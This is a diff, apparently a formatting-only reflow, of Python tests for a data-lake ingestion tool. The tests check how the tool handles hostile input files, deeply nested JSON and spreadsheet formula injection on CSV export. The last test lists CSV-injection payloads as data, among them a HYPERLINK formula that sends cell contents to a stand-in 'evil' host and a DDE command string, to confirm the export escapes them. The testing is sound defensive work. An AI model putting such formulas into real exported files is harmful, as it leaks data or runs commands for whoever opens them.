@@ -58,14 +58,23 @@ def test_hostile_files_in_landing(tmp_path, dask_client, scenario) -> None:
     lake.write_bytes(f"{landing}/{climbing}", good)
 
     report = clean_flow.ingest(settings, air, "hostile", ARRIVED)
-    assert sorted(r.file_name for r in report.new) == sorted([AIR_NAME.format("Gucheng"), AIR_NAME.format("Changping"), AIR_NAME.format("Huairou")])
+    assert sorted(r.file_name for r in report.new) == sorted(
+        [AIR_NAME.format("Gucheng"), AIR_NAME.format("Changping"), AIR_NAME.format("Huairou")]
+    )
     assert sorted(report.refused) == sorted([escaping, climbing])
-    assert all(why.startswith("invalid file name") and why.endswith(f"rename it in {landing} to be ingested") for why in report.refused.values())
+    assert all(
+        why.startswith("invalid file name") and why.endswith(f"rename it in {landing} to be ingested")
+        for why in report.refused.values()
+    )
     assert lake.exists(f"{landing}/{escaping}") and lake.exists(f"{landing}/{climbing}")  # refused, never deleted
     assert lake.glob(f"{lake.layout.zone(Zone.RAW)}/air_beijing/*/*") and not any(
-        "%2F" in path or " " in path for path in lake.fs.find(lake.layout.zone(Zone.RAW)))
+        "%2F" in path or " " in path for path in lake.fs.find(lake.layout.zone(Zone.RAW))
+    )
     # the bomb is quarantined whole, which fails the quality gate: nothing of the dataset is published
-    with pytest.raises(QualityGateError, match=r"Huairou \(PRSA_Data_Huairou_20130301-20170228.csv\): 1 of 1 rows quarantined .*DECOMPRESSION_LIMIT=1"):
+    with pytest.raises(
+        QualityGateError,
+        match=r"Huairou \(PRSA_Data_Huairou_20130301-20170228.csv\): 1 of 1 rows quarantined .*DECOMPRESSION_LIMIT=1",
+    ):
         clean_flow.clean(settings, air, "hostile", dask_client)
     assert not delta.table_exists(lake, lake.layout.table(Zone.CLEAN, "air_quality_hourly"))
     # the department re-delivers that file properly; the next run publishes, the enormous line quarantined
@@ -82,12 +91,19 @@ def test_hostile_files_in_landing(tmp_path, dask_client, scenario) -> None:
     clean = delta.read_table(lake, lake.layout.table(Zone.CLEAN, "air_quality_hourly"))
     counts = clean.groupby("station").size().to_dict()
     assert counts == {"Gucheng": HOURS, "Changping": HOURS - 1, "Huairou": HOURS}
-    balanced = all(ledger.loc[p, "rows_in"] == ledger.loc[p, "rows_clean"] + ledger.loc[p, "rows_quarantined"] + ledger.loc[p, "rows_deduplicated"]
-                   for p in ledger.index)
+    balanced = all(
+        ledger.loc[p, "rows_in"]
+        == ledger.loc[p, "rows_clean"] + ledger.loc[p, "rows_quarantined"] + ledger.loc[p, "rows_deduplicated"]
+        for p in ledger.index
+    )
     lost = 3 * HOURS - (len(clean) + len(quarantine))
-    scenario.record(balanced and summary.rows_clean == 3 * HOURS - 1, rows_lost=lost,
-                    duplicate_rows=len(clean) - len(clean.drop_duplicates(["station", "ts_utc"])),
-                    seconds=time.monotonic() - started, why=f"ledger {ledger.to_dict()}")
+    scenario.record(
+        balanced and summary.rows_clean == 3 * HOURS - 1,
+        rows_lost=lost,
+        duplicate_rows=len(clean) - len(clean.drop_duplicates(["station", "ts_utc"])),
+        seconds=time.monotonic() - started,
+        why=f"ledger {ledger.to_dict()}",
+    )
     scenario.assert_all_passed()
 
 
@@ -96,27 +112,45 @@ def test_json_nested_past_any_limit(scenario) -> None:
     spec = feed("corpus_events_jsonl")
     good = '{"id": "E1", "reported_at": "2024-05-01T08:00:00+08:00", "category": "litter", "status": "open", "text": "x", "lat": 39.91, "lon": 116.35}'
     for depth in (100, 10_000, 1_000_000):  # past our limit, past Python's recursion limit, and far past
-        nested = '{"id": "E2", "reported_at": "2024-05-01T09:00:00+08:00", "category": "litter", "status": "open", "text": ' + "[" * depth + "]" * depth + ', "lat": 39.91, "lon": 116.35}'
+        nested = (
+            '{"id": "E2", "reported_at": "2024-05-01T09:00:00+08:00", "category": "litter", "status": "open", "text": '
+            + "[" * depth
+            + "]" * depth
+            + ', "lat": 39.91, "lon": 116.35}'
+        )
         result = run(spec, f"{good}\n{nested}\n".encode(), "nested.jsonl")
         reasons = result.rejects["reason_code"].tolist()
-        scenario.record(len(result.clean) == 1 and reasons in (["NESTING_TOO_DEEP"], ["MALFORMED_JSON"]),
-                        seconds=time.monotonic() - started, why=f"depth {depth}: {reasons}")
+        scenario.record(
+            len(result.clean) == 1 and reasons in (["NESTING_TOO_DEEP"], ["MALFORMED_JSON"]),
+            seconds=time.monotonic() - started,
+            why=f"depth {depth}: {reasons}",
+        )
     scenario.assert_all_passed()
 
 
 def test_formulas_in_mart_values_are_defused_on_export(tmp_path, monkeypatch, scenario) -> None:
     settings = load_settings(lake_uri=str(tmp_path / "lake"))
     lake = Lake(settings)
-    evil = ["=HYPERLINK(\"http://evil/\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "Dongcheng"]
+    evil = ['=HYPERLINK("http://evil/"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "Dongcheng"]
     schema = pa.schema([pa.field("district", pa.string()), pa.field("incidents", pa.int64())])
-    delta.publish_frame(lake, lake.layout.table(Zone.CURATED, "crime_hotspots_probe"),
-                        pd.DataFrame({"district": evil, "incidents": [-1, 2, 3, 4, 5, 6]}), schema, (), None, "r", "k")
+    delta.publish_frame(
+        lake,
+        lake.layout.table(Zone.CURATED, "crime_hotspots_probe"),
+        pd.DataFrame({"district": evil, "incidents": [-1, 2, 3, 4, 5, 6]}),
+        schema,
+        (),
+        None,
+        "r",
+        "k",
+    )
     monkeypatch.setenv("CITYLAKE_LAKE_URI", settings.lake_uri)
     out = io.StringIO()
     with redirect_stdout(out):
         assert main(["query", "SELECT * FROM crime_hotspots_probe ORDER BY incidents", "--format", "csv"]) == 0
     exported = pd.read_csv(io.StringIO(out.getvalue()), keep_default_na=False)
     defused = exported["district"].tolist()
-    scenario.record(defused == ["'" + v for v in evil[:5]] + ["Dongcheng"] and exported["incidents"].tolist() == [-1, 2, 3, 4, 5, 6],
-                    why=json.dumps(defused))
+    scenario.record(
+        defused == ["'" + v for v in evil[:5]] + ["Dongcheng"] and exported["incidents"].tolist() == [-1, 2, 3, 4, 5, 6],
+        why=json.dumps(defused),
+    )
     scenario.assert_all_passed()
